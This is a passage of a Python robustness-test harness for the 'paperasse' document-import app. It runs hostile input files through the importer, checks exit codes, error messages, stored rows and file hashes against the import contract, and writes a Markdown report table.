        conn = sqlite3.connect(f"file:{data_dir / 'paperasse.db'}?mode=ro", uri=True)
        conn.row_factory = sqlite3.Row
        try:
            row = conn.execute("SELECT * FROM documents WHERE id = ?", [int(found.group(1))]).fetchone()
            document = dict(row) if row else None
        finally:
            conn.close()
    return Outcome(case, code, out.getvalue(), err.getvalue(), seconds, docs_before, docs_after,
                   stored_before, stored_after, tmp_after, document)


def shown_name(path: Path) -> str:
    """The file's name as the app prints it (undecodable bytes replaced)."""
    return os.fsencode(path.name).decode("utf-8", errors="replace")


def escaped_name(path: Path) -> str:
    """The name with control characters written as ``\\xNN`` (how a fixed app should print it)."""
    import re as _re

    return _re.sub(r"[\x00-\x1f\x7f-\x9f]", lambda m: f"\\x{ord(m.group()):02x}", shown_name(path))


def names(line: str, path: Path) -> bool:
    """Whether ``line`` names the file, its control characters shown any safe way (\\xNN, ?, …)."""
    import re as _re

    pattern = "".join(
        r"(?:\\x[0-9a-fA-F]{2}|\\[a-z]|[?\ufffd ]|.)" if ord(c) < 32 or 0x7F <= ord(c) <= 0x9F else _re.escape(c)
        for c in shown_name(path)
    )
    return _re.search(pattern, line) is not None


def problems_with(outcome: Outcome) -> list[str]:
    """Every way ``outcome`` breaks the import contract (empty when it is fine)."""
    import hashlib

    case, problems = outcome.case, []
    code = outcome.code
    err_lines = [line for line in outcome.stderr.splitlines() if line.strip()]
    error_lines = [line for line in err_lines if line.startswith("paperasse:")]
    if "Traceback" in outcome.stderr or "internal error" in outcome.stderr:
        problems.append("traceback or internal error on stderr")
    if code not in (0, 2):
        problems.append(f"exit status {code!r}, expected 0 or 2")
    if case.expect == REFUSE and code != 2:
        problems.append(f"should be refused (exit 2), got exit {code!r}")
    if case.expect == STORE and code != 0:
        problems.append(f"should be stored (exit 0), got exit {code!r}: {outcome.message}")
    if outcome.tmp_after:
        problems.append(f"tmp/ not empty after the import: {outcome.tmp_after}")
    if code == 2:
        if len(error_lines) != 1:
            problems.append(f"{len(error_lines)} error lines on stderr, expected exactly 1")
        elif not names(error_lines[0], case.path):
            problems.append("the error line does not name the file")
        if outcome.docs_after != outcome.docs_before:
            problems.append("a document row was stored for a refused file")
        if outcome.stored_after != outcome.stored_before:
            problems.append(f"files appeared in originals/: {sorted(outcome.stored_after - outcome.stored_before)}")
    elif code == 0:
        if error_lines:
            problems.append(f"error lines on stderr for an accepted file: {error_lines}")
        doc = outcome.document
        if "already imported" in outcome.stdout:
            return problems
        if doc is None:
            problems.append("exit 0 but no 'imported as document N' line / no row")
            return problems
        digest = hashlib.sha256(case.path.read_bytes()).hexdigest()
        if doc["sha256"] != digest:
            problems.append("stored row's sha256 differs from the file's")
        new_files = outcome.stored_after - outcome.stored_before
        if new_files != {f"originals/{doc['stored_name']}"}:
            problems.append(f"expected exactly originals/{doc['stored_name']} to appear, got {sorted(new_files)}")
        if outcome.docs_after != outcome.docs_before + 1:
            problems.append("document count did not grow by one")
    return problems


def write_report_section(report: Path, marker: str, body: str) -> None:
    """Replace the text between ``<!-- reliability:MARKER -->`` and its closing marker."""
    report = Path(report)
    start, end = f"<!-- reliability:{marker} -->", f"<!-- /reliability:{marker} -->"
    text = report.read_text(encoding="utf-8") if report.exists() else "# Reliability and privacy\n"
    block = f"{start}\n{body.rstrip()}\n{end}"
    if start in text and end in text:
        before = text.split(start, 1)[0]
        after = text.split(end, 1)[1]
        text = before + block + after
    else:
        text = text.rstrip() + "\n\n" + block + "\n"
    report.parent.mkdir(parents=True, exist_ok=True)
    report.write_text(text, encoding="utf-8")


def _cell(text: str) -> str:
    text = text.encode("unicode_escape").decode("ascii") if any(ord(c) < 32 for c in text) else text
    return text.replace("|", "\\|")


def report_table(outcomes: list[Outcome]) -> str:
    rows = ["| file | what it is | expected | exit | s | outcome (the line the user sees) | contract |",
            "|---|---|---|---|---|---|---|"]
    for o in outcomes:
        msg = o.message
        for prefix in ("paperasse: error: ", str(o.case.path.parent) + "/"):
            msg = msg.replace(prefix, "")
        probs = problems_with(o)
        rows.append(
            f"| `{_cell(shown_name(o.case.path))[:40]}` | {_cell(o.case.description)} | {o.case.expect} "
            f"| {o.code} | {o.seconds:.2f} | {_cell(msg)[:160]} | {'ok' if not probs else 'VIOLATION: ' + _cell('; '.join(probs))} |"
        )
    return "\n".join(rows)


def run_all(report: Path | None = None) -> int:
    """Import every case into a fresh data folder; print (and optionally write) the table."""
    import shutil
    import tempfile

    from desktop_app.cli.main import main

    work = Path(tempfile.mkdtemp(prefix="paperasse-hostile-"))
    try:
        cases = make_hostile_cases(work / "in")
        data = work / "data"
        with open(os.devnull, "w") as devnull:
            import contextlib

            with contextlib.redirect_stdout(devnull):
                main(["--data-dir", str(data), "person", "add", "--name", "Claire Martin"])
        outcomes = [import_case(data, c, "Claire Martin") for c in cases]
        violations = [o for o in outcomes if problems_with(o)]
        refused = sum(1 for o in outcomes if o.code == 2)
        stored = sum(1 for o in outcomes if o.code == 0)
        summary = (f"hostile inputs: {len(outcomes)} files, {refused} refused, {stored} stored, "
                   f"{len(violations)} contract violations, {sum(o.seconds for o in outcomes):.1f} s")
        print(report_table(outcomes))
        print(summary)
        if report:
            write_report_section(report, "hostile", summary + "\n\n" + report_table(outcomes))
        return 1 if violations else 0
    finally:
        for p in (work / "in").rglob("*"):
            try:
                if not p.is_symlink():
                    p.chmod(0o700)
            except OSError:
                pass
        shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":  # pragma: no cover - manual use
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--make", metavar="DIR", help="only write the files into DIR and list them")
    parser.add_argument("--report", type=Path, help="write the outcome table into this Markdown file")
    args = parser.parse_args()
    if args.make:
        for c in make_hostile_cases(args.make):
            print(f"{c.expect:7} {os.fsencode(c.path.name)!r:40.40} {c.description}")
        raise SystemExit(0)
    raise SystemExit(run_all(args.report))
